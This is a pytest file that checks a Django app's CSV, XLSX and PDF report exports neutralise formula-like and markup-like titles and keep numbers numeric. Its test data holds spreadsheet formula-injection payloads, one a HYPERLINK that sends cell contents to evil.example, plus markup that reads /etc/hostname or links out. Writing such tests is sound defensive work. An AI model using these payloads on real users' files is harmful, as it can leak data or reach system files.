"""The report downloads show what people typed and nothing else: a milestone title or KPI
name that looks like a formula is plain text in the CSV and XLSX, one that looks like markup
prints as written in the PDF; numbers stay numbers."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.factories import InitiativeFactory, KPIFactory, KPIMeasurementFactory, MilestoneFactory

pytestmark = pytest.mark.django_db
AS_OF = date(2026, 12, 1)
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1",
            # Look-alikes a spreadsheet may read the same way: full-width, or behind an
            # invisible character.
            "＝HYPERLINK(A1)", "\u200b=1+1", "\ufeff=1+1"]
MARKUP = ['<b>broken', '<img src="/etc/hostname"/>', '<a href="https://evil.example/">link</a>',
          "R&D < 5 > 3 &amp; &#60;", "</para>]]>"]


def report(client, fmt, initiative=None):
    url = (f"/api/v1/reports/initiatives/{initiative.pk}/" if initiative
           else "/api/v1/reports/portfolio/")
    response = client.get(url, {"format": fmt, "as_of": AS_OF.isoformat()})
    assert response.status_code == 200, response.content[:500]
    return response


def overdue_milestones(owner, titles, initiative=None):
    initiative = initiative or InitiativeFactory(owner=owner, code="AZEC2", name_ja=titles[0])
    for n, title in enumerate(titles):
        MilestoneFactory(initiative=initiative, title_ja=title, status="in_progress",
                         planned_due_on=AS_OF - timedelta(days=n + 1),
                         baseline_due_on=AS_OF - timedelta(days=n + 3))
    kpi = KPIFactory(initiative=initiative, code="KPI-1", name_ja=titles[-1],
                     baseline_value=Decimal("1.7"), baseline_year=2025,
                     target_value=Decimal("5"), target_year=2030)
    KPIMeasurementFactory(kpi=kpi, period_on=date(2025, 12, 31), value=Decimal("1.7"))
    return initiative


@pytest.fixture
def formula_titles(officer):
    return overdue_milestones(officer, FORMULAS)


def test_formula_like_titles_are_text_in_the_csv(api, manager, formula_titles):
    rows = list(csv.reader(io.StringIO(
        report(api.as_user(manager), "csv").content.decode("utf-8-sig"), newline="")))
    titles = [row[1] for row in rows if row[0] == "期限超過" and row[1] != "マイルストーン"]
    assert sorted(titles) == sorted("'" + title for title in FORMULAS)
    kpi = next(row for row in rows if row[0] == "KPI" and row[2] == "KPI-1")
    assert kpi[1] == "'" + FORMULAS[-1]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
    # Numbers are written as numbers: the days overdue and the slip are plain digits.
    overdue = next(row for row in rows if row[1] == "'" + FORMULAS[0])
    assert (overdue[6], overdue[7]) == ("1", "2")


def test_formula_like_titles_are_text_and_numbers_numeric_in_the_xlsx(api, manager,
                                                                      formula_titles):
    book = load_workbook(io.BytesIO(report(api.as_user(manager), "xlsx").content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    overdue = list(book["期限超過"].iter_rows(min_row=2, values_only=True))
    # (Whether a carriage return reads back as such or as a line feed depends on the XML
    # library openpyxl writes with: lxml keeps it, the standard library's does not.)
    assert sorted(row[0].replace("\r", "\n") for row in overdue) == sorted(
        "'" + title.replace("\r", "\n") for title in FORMULAS)
    first = next(row for row in overdue if row[0] == "'" + FORMULAS[0])
    assert (first[5], first[6]) == (1, 2)  # real numbers, not text
    assert list(book["KPI"].iter_rows(min_row=2, values_only=True))[0][0] == "'" + FORMULAS[-1]
    summary = dict(book["概要"].iter_rows(min_row=2, values_only=True))
    assert summary["期限超過"] == len(FORMULAS)


def test_negative_numbers_stay_numbers(api, manager, officer):
    """A milestone moved earlier than its baseline slips by a negative number of days: a
    number, not text with a quote in front."""
    initiative = InitiativeFactory(owner=officer)
    MilestoneFactory(initiative=initiative, title_ja="前倒し", status="in_progress",
                     planned_due_on=AS_OF - timedelta(days=1),
                     baseline_due_on=AS_OF + timedelta(days=4))
    book = load_workbook(io.BytesIO(report(api.as_user(manager), "xlsx").content))
    row = list(book["期限超過"].iter_rows(min_row=2, values_only=True))[0]
    assert (row[0], row[6]) == ("前倒し", -5)
    rows = list(csv.reader(io.StringIO(
        report(api.as_user(manager), "csv").content.decode("utf-8-sig"))))
    assert next(r for r in rows if r[1] == "前倒し")[7] == "-5"


def test_a_title_with_control_characters_still_downloads(api, manager, officer):
    # Written before titles refused them (PostgreSQL stores no NUL, so none here).
    overdue_milestones(officer, ["bell\x07 and escape\x1b", "vertical tab\x0b"])
    book = load_workbook(io.BytesIO(report(api.as_user(manager), "xlsx").content))
    titles = {row[0] for row in book["期限超過"].iter_rows(min_row=2, values_only=True)}
    assert titles == {"bell\ufffd and escape\ufffd", "vertical tab\ufffd"}


def pdf_text(response):
    """The PDF's text without white space (table cells wrap long values over lines)."""
    assert response["Content-Type"] == "application/pdf"
    return "".join("".join(page.extract_text().split()) for page in PdfReader(
        io.BytesIO(response.content)).pages)


def test_markup_in_titles_prints_as_written_in_the_pdf(api, manager, officer, monkeypatch):
    opened = []
    import reportlab.lib.utils

    real_open = reportlab.lib.utils.open_for_read
    monkeypatch.setattr(reportlab.lib.utils, "open_for_read",
                        lambda name, *args, **kwargs: opened.append(name) or real_open(
                            name, *args, **kwargs))
    initiative = overdue_milestones(officer, MARKUP)
    client = api.as_user(manager)
    for response in (report(client, "pdf"), report(client, "pdf", initiative)):
        text = pdf_text(response)
        for title in MARKUP:
            assert "".join(title.split()) in text
        assert b"/URI" not in response.content and b"/Link" not in response.content
        assert b"/Subtype /Image" not in response.content
    assert not [name for name in opened if "hostname" in str(name)]


def test_a_very_long_unbroken_title_still_makes_a_pdf(api, manager, officer):
    overdue_milestones(officer, ["x" * 300, "あ" * 300, "=" * 300])
    text = pdf_text(report(api.as_user(manager), "pdf"))
    assert "あああ" in text


def test_formula_like_kpi_measurements_are_numbers(api, manager, officer):
    """A KPI's figures are numbers in the XLSX whatever its name."""
    initiative = InitiativeFactory(owner=officer)
    kpi = KPIFactory(initiative=initiative, code="=KPI", name_ja="-輸出額",
                     baseline_value=Decimal("1.7"), baseline_year=2025,
                     target_value=Decimal("5"), target_year=2030)
    KPIMeasurementFactory(kpi=kpi, period_on=date(2025, 12, 31), value=Decimal("1.9"))
    book = load_workbook(io.BytesIO(report(api.as_user(manager), "xlsx").content))
    row = list(book["KPI"].iter_rows(min_row=2, values_only=True))[0]
    assert row[:2] == ("'-輸出額", "'=KPI")
    assert isinstance(row[4], int) and row[4] == 2025
